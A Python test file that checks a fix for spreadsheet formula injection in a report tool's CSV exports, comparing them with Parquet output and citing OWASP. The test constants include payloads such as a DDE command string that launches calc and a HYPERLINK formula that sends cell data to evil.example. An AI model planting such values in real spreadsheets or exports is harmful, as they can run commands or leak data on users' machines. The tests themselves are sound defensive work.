"""Issue 18: spreadsheet formula injection.  A scenario named ``=cmd|' /C calc'!A0`` was
exported verbatim into 100 CSV cells (command line) and 124 (dashboard); CSV text cells that
start with ``= + - @``, tab or CR are now neutralised as OWASP recommends.  Parquet cells are
typed strings no spreadsheet runs, so they keep their text (the quote only corrupted it)."""

from __future__ import annotations

import csv
import io

import polars as pl
import pytest
from goodput_lab.dashboard.components.export_buttons import report_bytes
from goodput_lab.models import load_preset

from goodput_lab.cli.main import main
from goodput_lab.reports import build_report, render
from goodput_lab.reports.tables import (
    FORMULA_SOURCE,
    neutralise_formulas,
    table_bytes,
    write_table,
)
from tests.cli.test_cli import BASE

FORMULA = "=cmd|' /C calc'!A0"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _cells(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"))))


def _assert_safe_csv(rows: list[dict[str, str]]) -> None:
    assert rows
    for row in rows:
        for column, cell in row.items():
            if column == "value":
                if cell:  # empty for text figures (their words are in the 'text' column)
                    float(cell)  # numbers stay numbers, negative ones included
            else:
                assert not cell.startswith(DANGEROUS), (column, cell)


def test_issue18_formula_scenario_name_is_text_in_the_command_line_csv(tmp_path, capsys):
    out = tmp_path / "r.csv"
    assert main(["report", BASE, "--set", f"name={FORMULA}", "-o", str(out)]) == 0
    rows = _cells(out.read_bytes())
    _assert_safe_csv(rows)
    names = {r["scenario"] for r in rows}
    assert names == {"'" + FORMULA}  # every one of the ~100 cells, prefixed
    assert len(rows) >= 100


def test_issue18_formula_names_are_text_in_the_dashboard_export(catalog):
    """The sidebar's CSV export (124 cells before), with a comparison name too."""
    scenario = load_preset("aws-16k-h100").replace(name=HYPERLINK)
    rows = _cells(report_bytes(scenario, ".csv"))
    _assert_safe_csv(rows)
    assert {r["scenario"] for r in rows} == {"'" + HYPERLINK}
    other = load_preset("aws-16k-h100-improved").replace(name="@SUM(1+1)*cmd|' /C calc'!A0")
    report = build_report(scenario, compare_to=other, catalog=catalog, detail=False)
    rows = _cells(render(report, ".csv"))
    _assert_safe_csv(rows)
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in {r["scenario"] for r in rows}


def test_parquet_text_cells_are_kept_as_typed_and_numbers_kept(catalog):
    """The guard is for CSV files a spreadsheet opens; a Parquet string is never run as a
    formula, so its text is written as it is (no stray quote: "+0.27 points")."""
    scenario = load_preset("aws-16k-h100").replace(name="+" + FORMULA)
    report = build_report(scenario, catalog=catalog, detail=False)
    table = pl.read_parquet(io.BytesIO(render(report, ".parquet")))
    assert table.schema["value"] == pl.Float64
    assert set(table["scenario"].unique()) == {"+" + FORMULA}
    assert not table["text"].str.contains(r"^'[=+\-@\t\r]").any()


@pytest.mark.parametrize("first", DANGEROUS)
def test_each_owasp_character_is_neutralised(first):
    table = pl.DataFrame({"text": [first + "1+1", "plain", None], "value": [-1.5, 2.0, 3.0]})
    out = neutralise_formulas(table)
    assert out["text"].to_list() == ["'" + first + "1+1", "plain", None]
    assert out["value"].to_list() == [-1.5, 2.0, 3.0]
    assert out.schema == table.schema


def test_lists_of_text_are_neutralised_too():
    table = pl.DataFrame({"tags": [["=A1", "ok"], ["-x"]]})
    assert neutralise_formulas(table)["tags"].to_list() == [["'=A1", "ok"], ["'-x"]]


def test_one_writer_for_csv_and_parquet_files(tmp_path):
    table = pl.DataFrame({"name": ["=1+1"], "x": [-2.0]})
    for fmt, name in ((".csv", "'=1+1"), (".parquet", "=1+1")):  # the guard is CSV's only
        path = write_table(table, tmp_path / f"t{fmt}")
        back = pl.read_csv(path) if fmt == ".csv" else pl.read_parquet(path)
        assert back["name"].to_list() == [name]
        assert back["x"].to_list() == [-2.0]
    assert table_bytes(table, ".csv") == (tmp_path / "t.csv").read_bytes()
    assert table_bytes(table, ".parquet") == (tmp_path / "t.parquet").read_bytes()


def test_the_rule_cites_owasp():
    assert FORMULA_SOURCE.key == "owasp_csv"
    assert FORMULA_SOURCE.where == "https://owasp.org/www-community/attacks/CSV_Injection"
